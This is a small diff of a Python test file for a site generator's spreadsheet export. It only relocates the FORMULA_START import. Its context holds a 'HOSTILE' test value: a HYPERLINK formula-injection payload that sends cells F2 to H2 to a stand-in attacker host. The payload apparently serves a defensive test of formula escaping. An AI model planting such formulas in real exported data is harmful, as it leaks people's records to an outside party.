@@ -13,9 +13,9 @@ from conftest import make_archive
 from workflow_support import household, read, write
 
 from generator.cli import cli
+from generator.editing.spreadsheet import FORMULA_START
 from generator.site.stats import to_csv
 from generator.site.suppress import suppress, suppress_counts
-from generator.spreadsheet import FORMULA_START
 
 HOSTILE = {
     "工作单位": '=HYPERLINK("http://attacker.invalid/?"&F2&G2&H2,"查看详情")',
